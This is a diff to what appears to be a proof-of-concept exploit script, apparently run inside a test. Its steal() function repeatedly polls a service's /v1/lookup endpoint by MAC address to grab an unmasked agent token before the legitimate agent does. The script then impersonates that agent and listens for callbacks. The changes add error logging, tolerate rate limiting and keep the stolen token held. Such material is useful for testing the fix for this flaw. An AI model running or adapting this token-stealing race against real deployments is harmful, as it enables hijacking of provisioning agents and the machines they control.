@@ -34,14 +34,15 @@ def steal(api: str, mac: str) -> tuple[str, str]:
     while True:
         try:
             answer = requests.get(f"{api}/v1/lookup", params={"addresses": mac}, timeout=10)
-        except requests.RequestException:
-            time.sleep(0.05)
+        except requests.RequestException as error:
+            say(f"lookup failed {type(error).__name__}")
+            time.sleep(0.5)
             continue
         if answer.status_code == 200:
             token = answer.json()["config"]["agent_token"]
             if token != "******":
                 return answer.json()["node"]["uuid"], token
-        if answer.status_code in (403, 409):
+        if answer.status_code in (403, 409, 429):
             say(f"lookup {answer.status_code}")
         time.sleep(0.02)
 
@@ -98,8 +99,9 @@ def main(argv: list[str] | None = None) -> int:
     args = parser.parse_args(argv)
     node, token = steal(args.api, args.mac)
     say(f"token {node}")
-    if args.mode == "steal":
-        return 0
+    if args.mode == "steal":  # keeps the token; the test stops it
+        while True:
+            time.sleep(3600)
     agent(args.mode, args.sha256, args.port)
     say("agent listening")
     callback = args.callback or f"http://127.0.0.1:{args.port}"
